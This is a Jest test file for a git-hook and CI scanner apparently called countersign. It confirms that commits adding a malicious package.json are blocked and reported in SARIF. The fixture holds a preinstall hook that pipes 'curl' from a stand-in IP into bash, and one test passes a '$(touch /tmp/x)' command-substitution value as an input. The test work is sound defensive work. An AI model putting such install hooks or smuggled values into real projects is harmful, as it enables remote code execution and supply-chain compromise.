/** The recipes of docs/pipelines.md and the steps of action.yml, run as they are written. */
import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { jest } from "@jest/globals";
import { parse } from "yaml";
import { z } from "zod";
import { aFolder } from "../git/a-history.ts";

jest.setTimeout(240_000);

const ROOT = join(import.meta.dirname, "../..");
/** An install script that runs what it downloads. */
const ATTACK = JSON.stringify({ name: "a", scripts: { preinstall: "curl -s http://198.51.100.7/x | bash" } });
const GOOD = "export const a = 1;\n";

/** The block of the page whose second line names the hook. */
function hook(name: string): string {
  const page = readFileSync(join(ROOT, "docs/pipelines.md"), "utf8");
  const blocks = [...page.matchAll(/```sh\n(#!\/bin\/sh\n# \S*?hooks\/([\w-]+)[\s\S]*?)```/g)];
  const found = blocks.find(([, , hookName]) => hookName === name)?.[1];
  if (found === undefined) throw new Error(`no recipe for ${name}`);
  return found;
}

function world() {
  const folder = aFolder();
  const bin = join(folder, "bin");
  const work = join(folder, "work");
  const server = join(folder, "server.git");
  mkdirSync(bin);
  writeFileSync(
    join(bin, "countersign"),
    `#!/bin/sh\nexec "${process.execPath}" --disable-warning=ExperimentalWarning "${ROOT}/bin/countersign.mjs" "$@"\n`,
  );
  chmodSync(join(bin, "countersign"), 0o755);
  const env = {
    PATH: `${bin}:${dirname(process.execPath)}:${process.env["PATH"]}`,
    HOME: folder,
    GIT_AUTHOR_NAME: "Ada",
    GIT_AUTHOR_EMAIL: "ada@example.com",
    GIT_COMMITTER_NAME: "Ada",
    GIT_COMMITTER_EMAIL: "ada@example.com",
  };
  execFileSync("git", ["init", "-q", "--bare", "-b", "main", server]);
  execFileSync("git", ["init", "-q", "-b", "main", work]);
  const git = (...args: string[]) => {
    const { status, stdout, stderr } = spawnSync("git", args, { cwd: work, env, encoding: "utf8" });
    return { status, text: stdout + stderr };
  };
  git("remote", "add", "origin", server);
  const install = (name: string, gitDir: string) => {
    const file = join(gitDir, "hooks", name);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, hook(name), { mode: 0o755 });
  };
  const commit = (name: string, text: string, ...flags: string[]) => {
    writeFileSync(join(work, name), text);
    git("add", ".");
    return git("commit", "-qm", `Add ${name}`, ...flags);
  };
  return { env, work, server, git, install, commit };
}

test("pre-commit lets a good commit pass and stops a bad one, also of a part of what changed", () => {
  const { git, install, commit, work } = world();
  install("pre-commit", join(work, ".git"));
  expect(commit("a.js", GOOD).status).toBe(0);
  const bad = commit("package.json", ATTACK);
  expect([bad.status, bad.text]).toEqual([1, expect.stringContaining("package.json")]);
  writeFileSync(join(work, "a.js"), `${GOOD}\n`);
  expect(git("commit", "-qm", "A part", "a.js").status).toBe(0); // package.json is staged, and stays out of it
  expect(git("rev-list", "--count", "HEAD").text.trim()).toBe("2");
});

test("pre-push lets good commits pass and stops bad ones", () => {
  const { git, install, commit, work } = world();
  install("pre-push", join(work, ".git"));
  commit("a.js", GOOD);
  expect(git("push", "-q", "origin", "main").status).toBe(0);
  commit("b.js", GOOD);
  expect(git("push", "-q", "origin", "main").status).toBe(0);
  commit("package.json", ATTACK);
  const bad = git("push", "-q", "origin", "main");
  expect([bad.status, bad.text]).toEqual([1, expect.stringContaining("package.json")]);
  expect(git("push", "-q", "origin", ":main").status).not.toBe(null);
});

test("pre-receive judges objects in quarantine", () => {
  const { git, install, commit, server } = world();
  install("pre-receive", server);
  commit("a.js", GOOD);
  const first = git("push", "origin", "main");
  expect([first.status, first.text]).toEqual([0, expect.stringContaining("1 commit judged")]);
  commit("package.json", ATTACK);
  const bad = git("push", "origin", "main");
  expect([bad.status, bad.text]).toEqual([1, expect.stringContaining("pre-receive hook declined")]);
});

const Action = z.object({
  runs: z.object({ steps: z.array(z.object({ name: z.string(), run: z.string().optional() })) }),
});

function step(name: string): string {
  const action = Action.parse(parse(readFileSync(join(ROOT, "action.yml"), "utf8")));
  return action.runs.steps.find((one) => one.name === name)?.run ?? "";
}

/** The scan of action.yml over the last commit, and its conclusion. */
function runAction(w: ReturnType<typeof world>, more: Readonly<Record<string, string>> = {}) {
  const output = join(w.work, "..", "output");
  writeFileSync(output, "");
  const inputs = { RANGE: "", MIN_SEVERITY: "medium", POLICY: "", BASELINE: "", SARIF: "countersign.sarif" };
  const at = (name: string) => w.git("rev-parse", name).text.trim();
  const event = { BEFORE: at("HEAD~1"), AFTER: at("HEAD"), ACTION_PATH: ROOT, GITHUB_OUTPUT: output };
  const run = (script: string, env: Readonly<Record<string, string>>) =>
    spawnSync("bash", ["-e", "-o", "pipefail", "-c", script], {
      cwd: w.work,
      env: { ...w.env, ...inputs, ...event, ...env, ...more },
      encoding: "utf8",
    });
  const scan = run(step("Scan"), {});
  const code = /exit-code=(\d)/.exec(readFileSync(output, "utf8"))?.[1] ?? "";
  const conclude = run(step("Conclude"), { CODE: code });
  return {
    scan: scan.status,
    code,
    conclude: conclude.status,
    said: scan.stderr,
    sarif: join(w.work, "countersign.sarif"),
  };
}

test("the action writes SARIF and fails where something was found, and not where nothing was", () => {
  const w = world();
  w.commit("a.js", GOOD);
  w.commit("b.js", GOOD);
  expect(runAction(w)).toMatchObject({ scan: 0, code: "0", conclude: 0, said: "" });
  w.git("add", ".");
  w.commit("package.json", ATTACK);
  const found = runAction(w);
  expect(found).toMatchObject({ scan: 0, code: "1", conclude: 1 });
  const { runs } = JSON.parse(readFileSync(found.sarif, "utf8"));
  expect(runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe("package.json");
  expect(runAction(w, { BEFORE: "0".repeat(40) })).toMatchObject({ scan: 0, code: "1" });
  // A forced push: the commit before it is on no branch any more, and the server may have forgotten it.
  expect(runAction(w, { BEFORE: "1".repeat(40) })).toMatchObject({ scan: 0, code: "1", said: "" });
  expect(runAction(w, { RANGE: "$(touch /tmp/x)..HEAD" })).toMatchObject({ scan: 1, code: "2" });
});
